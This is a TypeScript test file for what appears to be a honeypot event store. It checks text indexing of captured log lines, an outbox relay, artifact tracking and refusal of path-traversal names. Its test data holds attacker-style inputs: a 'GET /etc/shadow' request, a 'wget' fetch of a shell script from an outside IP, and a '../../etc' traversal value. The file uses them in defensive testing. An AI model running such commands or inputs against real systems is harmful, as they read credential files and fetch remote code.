import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import type { Bus } from "#bus/contract.ts";
import { systemClock } from "#kernel/clock.ts";
import { addOutbox } from "#store/sqlite/outbox.ts";
import { Arrivals } from "./artifacts/arrival.ts";
import { envelopeId, Relay } from "./relay/relay.ts";
import { TextIndex } from "./search/text-index.ts";
import { ingestAll, openTestStore, type TestStore } from "./testing/harness.ts";
import { MemoryJournal } from "./testing/journal.ts";
import { line, record } from "./testing/records.ts";

const SHA = "cd".repeat(32);
const STORED_AS = "20260719T142231Z_cdcdcdcdcdcd_x";

async function storeWith(...lines: readonly string[]): Promise<TestStore> {
  const store = openTestStore();
  const journal = new MemoryJournal();
  for (const one of lines) journal.append(one);
  await ingestAll(store.writer, journal);
  return store;
}

const found = (store: TestStore, phrase: string): readonly unknown[] =>
  store.all(`SELECT rowid AS seq FROM events_text WHERE events_text MATCH '${phrase}' ORDER BY rowid`);

test("words of the raw line, the message and the field values are found, and each event is indexed once", async () => {
  using store = await storeWith(
    line(1, { raw_line: "GET /etc/shadow", fields: { path: "x" } }),
    line(2, { msg: "wget http://198.51.100.200/i.sh", fields: {} }),
    line(3, { fields: { user: "Zoë" } }),
  );
  store.writer.statement("DELETE FROM cursors WHERE name = 'search'").run();
  store.writer.statement("DELETE FROM events_text").run();
  const index = new TextIndex(store.writer, systemClock);
  expect(index.step()).toBe(3);
  expect(new TextIndex(store.writer, systemClock).step()).toBe(0);
  expect(found(store, '"etc shadow"')).toEqual([{ seq: 1 }]);
  expect(found(store, '"198 51 100 200"')).toEqual([{ seq: 2 }]);
  expect(found(store, "zoe")).toEqual([{ seq: 3 }]);
  expect(found(store, "nowhere")).toEqual([]);
});

test("a message goes out in order, again after a crash, and each time with the same id", () => {
  using store = openTestStore();
  store.writer.transaction(() =>
    addOutbox(
      store.writer,
      [1, 2, 3].map((n) => ({ topic: "attacker.observed", dedupeKey: `a${n}`, payload: { n } })),
      1,
    ),
  );
  const heard: unknown[] = [];
  const bus: Pick<Bus, "publish"> = {
    publish: (topic, payload, options) => {
      heard.push([topic, payload, options?.id]);
    },
  };
  const message = (n: number): unknown => [
    "attacker.observed",
    { n },
    envelopeId("attacker.observed", `a${n}`),
  ];
  const all = [message(1), message(2), message(3), ["outbox.ready", { lastSeq: 3 }, undefined]];
  expect(new Relay(store.writer, bus, systemClock).step()).toBe(3);
  expect(heard).toEqual(all);
  expect(new Relay(store.writer, bus, systemClock).step()).toBe(0);
  store.writer.statement("UPDATE cursors SET seq = 1 WHERE name = 'relay'").run();
  new Relay(store.writer, bus, systemClock).step();
  expect(heard.slice(4)).toEqual(all.slice(1));
});

test("bytes that come after their event turn the artifact from missing to present", async () => {
  using store = await storeWith(
    JSON.stringify(
      record(1, { event_type: "file_captured", fields: { sha256: SHA, stored_as: STORED_AS, size: "3" } }),
    ),
  );
  const root = join(store.folder, "artifacts");
  const arrivals = new Arrivals(store.writer, root);
  expect(arrivals.step()).toBe(0);
  mkdirSync(join(root, "quill-07", "ssh"), { recursive: true });
  writeFileSync(join(root, "quill-07", "ssh", STORED_AS), "abc");
  expect(arrivals.step()).toBe(1);
  expect(store.all("SELECT state, path, size FROM artifacts")).toEqual([
    { state: "present", path: `quill-07/ssh/${STORED_AS}`, size: 3 },
  ]);
  expect(arrivals.step()).toBe(0);
});

test("a decky name that is a path is never looked up", async () => {
  const escaping = record(1, {
    decky: "../../etc",
    event_type: "file_captured",
    fields: { sha256: SHA, stored_as: STORED_AS, size: "3" },
  });
  using store = await storeWith(JSON.stringify(escaping));
  expect(new Arrivals(store.writer, join(store.folder, "artifacts")).step()).toBe(0);
  expect(store.all("SELECT state FROM artifacts")).toEqual([{ state: "missing" }]);
});
